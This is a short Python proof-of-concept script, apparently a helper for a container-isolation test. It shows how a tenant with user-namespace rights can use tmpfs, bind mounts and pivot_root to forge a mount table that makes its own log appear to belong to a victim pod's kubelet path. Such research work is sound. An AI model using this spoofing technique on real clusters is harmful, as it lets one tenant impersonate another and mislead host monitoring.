"""What a tenant who may make user namespaces can do; see ``containers_driver``.

Runs as root of a further user and mount namespace: a tmpfs with the victim's folder
names becomes the root, the old root with the real line goes, and the mount table shows
the victim alone.
"""

from __future__ import annotations

import ctypes
import os
import sys
from pathlib import Path

MS_BIND, MNT_DETACH, PIVOT_ROOT = 4096, 2, 155
libc = ctypes.CDLL(None, use_errno=True)


def checked(result: int) -> None:
    if result:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def main(base: Path, victim: str) -> None:
    root = base / "forged"
    checked(libc.mount(b"forged", str(root).encode(), b"tmpfs", 0, None))
    log = root / f"kubelet/pods/{victim}/containers/main/ab"
    log.parent.mkdir(parents=True)
    for path in (log, root / "log"):
        path.touch()
    (root / "old").mkdir()
    checked(libc.mount(str(log).encode(), str(root / "log").encode(), None, MS_BIND, None))
    checked(libc.syscall(PIVOT_ROOT, str(root).encode(), str(root / "old").encode()))
    os.chdir("/")
    checked(libc.umount2(b"/old", MNT_DETACH))
    print("ready", flush=True)
    sys.stdin.readline()


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2])
